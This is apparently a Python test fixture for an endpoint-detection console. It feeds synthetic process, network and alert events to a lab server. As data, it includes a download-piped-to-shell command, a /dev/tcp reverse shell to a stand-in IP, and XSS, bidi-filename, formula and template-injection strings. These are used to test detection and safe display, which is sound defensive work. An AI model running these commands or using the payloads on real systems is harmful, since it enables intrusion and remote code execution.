# SPDX-License-Identifier: Apache-2.0
"""What the console is tested with: a real server, agents made of Python, events and alerts of our own, hostile ones too."""
import base64
import hashlib
import hmac
import json
import os
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "system"))
import lab  # noqa: E402
from server_client import Client, Peer, zstd  # noqa: E402, F401

PASSWORD = "correct horse battery staple"
BIDI = "invoice\u202efdp.exe"
MARKUP = "<img src=x onerror=document.title='owned'><script>document.title='owned'</script>"
CONTROLS = "bash -c \x1b[2J\x07 a\tb\u200bc\u2028d"
LONG = "long " + "A" * 5000 + " end-of-it"
HOSTILE = [MARKUP, BIDI, CONTROLS, LONG, "=HYPERLINK(\"http://x\")", "${7*7}{{7*7}}"]


def stamp(us):
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(us // 1000000)) + ".%06dZ" % (us % 1000000)


def now_us():
    return time.time_ns() // 1000


def line(kind, event_type, seq, at, raw, process=None, source="kernel", module="kernel_callback"):
    out = {"ts": stamp(at), "module": module, "event_type": event_type}
    if process:
        out["process"] = process
    out.update(raw=raw, source=source, kind=kind, event_version=7, seq=seq)
    if source == "kernel":
        out.update(drop_count=0, trunc_count=0)
    return out


NUMBERS = ("creating_pid gid euid egid suid sgid fsuid fsgid login_uid pgid sid cap_effective cap_permitted cap_bounding "
           "cgroup_id ns_pid_nr ns_user ns_pid ns_mnt ns_net ns_uts ns_ipc ns_cgroup exe_inode exe_dev exe_mode exe_nlink "
           "exe_uid exe_size argv_size").split()


def create(seq, at, pid, path, command, key, parent_key, ppid=1, user="www-data"):
    raw = {n: 0 for n in NUMBERS}
    raw.update(pid=pid, parent_pid=ppid, process_key="%016x" % key, parent_key="%016x" % parent_key, image_path=path,
               command_line=command, comm=path.rsplit("/", 1)[1][:15], uid=33, user=user)
    return line("ProcessCreate", "process_create", seq, at, raw,
                {"pid": pid, "ppid": ppid, "key": "%016x" % key, "parent_key": "%016x" % parent_key, "path": path,
                 "command_line": command, "name": path.rsplit("/", 1)[1], "user": user, "uid": 33})


def connect(seq, at, pid, key, ip, port):
    raw = {"pid": pid, "process_key": "%016x" % key, "protocol": "tcp", "protocol_code": 6, "dst_ip": ip, "dst_port": port,
           "uid": 33}
    return line("NetworkConnect", "network_connect", seq, at, raw, {"pid": pid, "key": "%016x" % key, "uid": 33})


def dns(seq, at, pid, key, name):
    raw = {"pid": pid, "process_key": "%016x" % key, "query_name": name, "query_type": 1, "answers": ["203.0.113.9"]}
    return line("DnsQuery", "dns_query", seq, at, raw, {"pid": pid, "key": "%016x" % key})


def ended(seq, at, pid, key, comm):
    raw = {"pid": pid, "exit_code": 1, "process_key": "%016x" % key, "parent_pid": 1, "uid": 0, "comm": comm}
    return line("ProcessExit", "process_terminate", seq, at, raw, {"pid": pid, "key": "%016x" % key})


def alert(seq, at, n, title, severity, command, path, key, pid, evidence=(), ancestry=()):
    code = ["informational", "low", "medium", "high", "critical"].index(severity) + 1
    raw = {"alert_id": "%032x" % n, "rule_id": "wedr-test-%d" % n, "rule_title": title, "rule_language": "sigma",
           "severity": severity, "severity_code": code, "message": "A test of " + title, "tags": ["attack.t1059"],
           "event_time": stamp(at), "pid": pid, "process_key": "%016x" % key, "image_path": path, "command_line": command,
           "user": "www-data", "entity": "pid:%d" % pid, "suppressed": n % 3, "match_count": 1, "rules_serial": "1",
           "evidence": list(evidence), "ancestry": list(ancestry),
           "matched": [{"field": "command_line", "value": command[:200]}]}
    return line("Alert", "alert", seq, at, raw, {"pid": pid, "key": "%016x" % key, "path": path, "command_line": command,
                                                 "user": "www-data"}, source="agent", module="agent")


def send(peer, stream, first, lines):
    body = zstd(b"".join(json.dumps(x, separators=(",", ":")).encode() + b"\n" for x in lines))
    answer = peer.post(first, len(lines), body=body, stream=stream)
    assert answer.status == 202 and answer.json["skipped"] == 0, answer
    return answer


def totp(secret, at=None):
    """The code of an authenticator app (RFC 6238)."""
    key = base64.b32decode(secret + "=" * (-len(secret) % 8))
    digest = hmac.new(key, struct.pack(">Q", int((at or time.time()) // 30)), hashlib.sha1).digest()
    at = digest[-1] & 15
    return "%06d" % ((struct.unpack(">I", digest[at:at + 4])[0] & 0x7FFFFFFF) % 1000000)


class World:
    """One server with two endpoints, some thousand events and a few alerts; made once for most of the tests."""

    def __init__(self):
        self.lab = lab.Lab()
        self.server = self.lab.server()
        self.next = {}
        self.alerts = 0

    def close(self):
        self.lab.__exit__(None, None, None)

    def first_password(self):
        with open(os.path.join(self.server.data, "first-password"), encoding="ascii") as f:
            return f.read().strip()

    def user(self, name, role):
        """A new user's one-time password."""
        return lab.run(lab.SERVER, "user", "add", name, role, "--data", self.server.data).stdout.strip()

    def peer(self, name, hostname):
        p = Peer(self.server, self.lab.folder, name)
        answer = p.enroll(hostname=hostname)
        assert answer.status == 201, answer
        p.heartbeat(health=["the spool is 82 % full"])
        self.next[p.id] = {}
        return p

    def send(self, peer, stream, make):
        """make(first seq) gives the lines; they are stored when this returns."""
        first = self.next[peer.id].get(stream, 1)
        lines = make(first)
        send(peer, stream, first, lines)
        self.next[peer.id][stream] = first + len(lines)

    def fill(self):
        at = now_us() - 600_000_000
        self.web, self.db = self.peer("web", "web-1"), self.peer("db", MARKUP[:60] + BIDI)

        def tree(seq):
            return [create(seq, at, 100, "/usr/sbin/nginx", "nginx -g daemon off;", 0x100, 0x1),
                    create(seq + 1, at + 1000, 101, "/bin/sh", "sh -c curl http://203.0.113.9/x | sh", 0x101, 0x100, 100),
                    create(seq + 2, at + 2000, 102, "/usr/bin/curl", "curl http://203.0.113.9/x", 0x102, 0x101, 101),
                    create(seq + 3, at + 2500, 103, "/tmp/" + BIDI, CONTROLS, 0x103, 0x101, 101),
                    ended(seq + 4, at + 9000, 102, 0x102, "curl")]
        self.send(self.web, "kernel.critical", tree)
        self.send(self.web, "kernel.bulk", lambda s: [connect(s, at + 3000, 102, 0x102, "203.0.113.9", 80),
                                                      dns(s + 1, at + 3100, 102, 0x102, "evil.example.net")])
        self.send(self.db, "kernel.critical", lambda s: [
            create(s + i, at + i, 200 + i, "/usr/bin/evil", text, 0x200 + i, 0x1) for i, text in enumerate(HOSTILE)])
        for _ in range(3):
            self.send(self.web, "kernel.critical",
                      lambda s: [ended(s + i, at + 20000 + i * 100000, 300, 0x300, "worker") for i in range(1000)])
        self.add_alerts()

    def add_alerts(self):
        at = now_us()
        shell = {"epoch": "%016x" % self.web.epoch, "stream": "kernel.critical", "seq": 2,
                 "event": create(2, at, 101, "/bin/sh", "sh -c curl http://203.0.113.9/x | sh", 0x101, 0x100, 100)}
        line_up = [{"process_key": "%016x" % k, "pid": p, "image_path": i, "command_line": c} for k, p, i, c in
                   ((0x101, 101, "/bin/sh", "sh -c curl"), (0x100, 100, "/usr/sbin/nginx", "nginx"))]
        self.send(self.web, "alert", lambda s: [
            alert(s, at, 1, "Download piped into a shell", "high", "sh -c curl http://203.0.113.9/x | sh", "/bin/sh", 0x101, 101,
                  [shell], line_up),
            alert(s + 1, at, 2, "Reverse shell", "critical", "bash -i >& /dev/tcp/203.0.113.9/443", "/bin/bash", 0x101, 101),
            alert(s + 2, at, 3, MARKUP, "medium", CONTROLS, "/tmp/" + BIDI, 0x103, 103),
            alert(s + 3, at, 4, "Quiet one", "low", LONG, "/usr/bin/long", 0x101, 101)])
        self.alerts += 4
        lab.wait_for("the alerts", 15, lambda: self.server.one("SELECT count(*) AS n FROM alerts")["n"] >= self.alerts)
